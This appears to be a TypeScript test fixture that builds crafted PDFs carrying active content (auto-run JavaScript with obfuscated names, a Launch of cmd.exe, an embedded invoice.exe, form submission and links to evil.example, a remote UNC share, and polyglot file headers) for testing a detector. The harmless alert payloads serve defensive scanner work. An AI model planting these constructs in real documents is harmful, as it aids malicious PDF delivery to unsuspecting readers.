import type { ActiveContent } from '@patravali/contract';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { aPdfWithJavaScript, aRawPdf } from './hostile-pdfs';

interface ActivePdf {
  readonly active: readonly ActiveContent[];
  readonly bytes: () => Uint8Array | Promise<Uint8Array>;
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
const aPage = (more: string) => PAGE.replace(' >>', ` ${more} >>`);
const aLink = (action: string) =>
  aPage(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /Type /Action ${action} >> >>]`);
const opening = (action: string) => aRawPdf([CATALOG.replace(' >>', ` /OpenAction << ${action} >> >>`), PAGES, PAGE]);

/** A script in a document of everyday make, where it lies in an object stream, as most do. */
async function hidden(encrypted: boolean): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  const script = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(script));
  if (encrypted) document.encrypt({ userPassword: '', ownerPassword: 'secret' });
  return await document.save();
}

async function withAttachment(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  await document.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'application/octet-stream' });
  return await document.save();
}

/** The whole is a PDF to one program and something else to another. */
const polyglot =
  (head: string, tail = '') =>
  () =>
    Buffer.concat([Buffer.from(head, 'latin1'), aRawPdf([CATALOG, PAGES, PAGE]), Buffer.from(tail, 'latin1')]);

/** PDFs that act, lead or open something when they are opened in a careless reader, and what must be found in each. */
export const ACTIVE_PDFS: Readonly<Record<string, ActivePdf>> = {
  'a script that runs when it is opened': { active: ['javascript'], bytes: aPdfWithJavaScript },
  'a script under a name in disguise': {
    active: ['javascript'],
    bytes: () => opening('/#53 /Java#53cript /#4a#53 (app.alert\\(1\\))'),
  },
  'a script in an object stream': { active: ['javascript'], bytes: () => hidden(false) },
  'a script in an encrypted document': { active: ['javascript'], bytes: () => hidden(true) },
  'a script of a page': {
    active: ['javascript'],
    bytes: () => aRawPdf([CATALOG, PAGES, aPage('/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>')]),
  },
  'a program to start': { active: ['launch'], bytes: () => opening('/S /Launch /F (cmd.exe)') },
  'a file inside': { active: ['attachment'], bytes: withAttachment },
  'a file pinned to a page': {
    active: ['attachment'],
    bytes: () => aRawPdf([CATALOG, PAGES, aPage('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]')]),
  },
  'an XFA form': {
    active: ['xfa'],
    bytes: () => aRawPdf([CATALOG.replace(' >>', ' /AcroForm << /Fields [] /XFA (<xdp/>) >> >>'), PAGES, PAGE]),
  },
  'a form that sends itself': { active: ['submit'], bytes: () => opening('/S /SubmitForm /F (http://evil.example)') },
  'a film': {
    active: ['media'],
    bytes: () => aRawPdf([CATALOG, PAGES, aPage('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')]),
  },
  'a link to a page of the web': {
    active: ['link'],
    bytes: () => aRawPdf([CATALOG, PAGES, aLink('/S /URI /URI (http://evil.example)')]),
  },
  'a link that is a script': {
    active: ['link'],
    bytes: () => aRawPdf([CATALOG, PAGES, aLink('/S /URI /URI (javascript:alert\\(1\\))')]),
  },
  'a link to another file': { active: ['link'], bytes: () => opening('/S /GoToR /F (\\\\\\\\evil\\\\share)') },
  'a web page before it': { active: ['polyglot'], bytes: polyglot('<!doctype html><script>alert(1)</script>\n') },
  'a program before it': { active: ['polyglot'], bytes: polyglot('MZ\x90\0\x03\0\0\0') },
  'a picture before it': { active: ['polyglot'], bytes: polyglot('GIF89a\x01\0\x01\0\0\0\0;') },
  'a photograph before it': { active: ['polyglot'], bytes: polyglot('\xff\xd8\xff\xe0\0\x10JFIF\0') },
  'an archive behind it': { active: ['polyglot'], bytes: polyglot('', 'PK\x05\x06' + '\0'.repeat(18)) },
  'an archive with words of its own behind it': {
    active: ['polyglot'],
    bytes: polyglot('', `PK\x05\x06${'\0'.repeat(16)}\x08\0x %%EOF\n`),
  },
  'blank lines and a mark of the byte order around it': {
    active: [],
    bytes: polyglot('\xef\xbb\xbf\r\n', '\n\n \0\0'),
  },
  'words that only speak of scripts': {
    active: [],
    bytes: () =>
      aRawPdf([
        CATALOG,
        PAGES,
        aPage('/Contents 4 0 R /Note (a \\(/JavaScript\\) of /Launch) % /XFA'),
        { dictionary: '', stream: Buffer.from('BT (/S /JavaScript /JS) Tj ET /EmbeddedFile') },
      ]),
  },
};
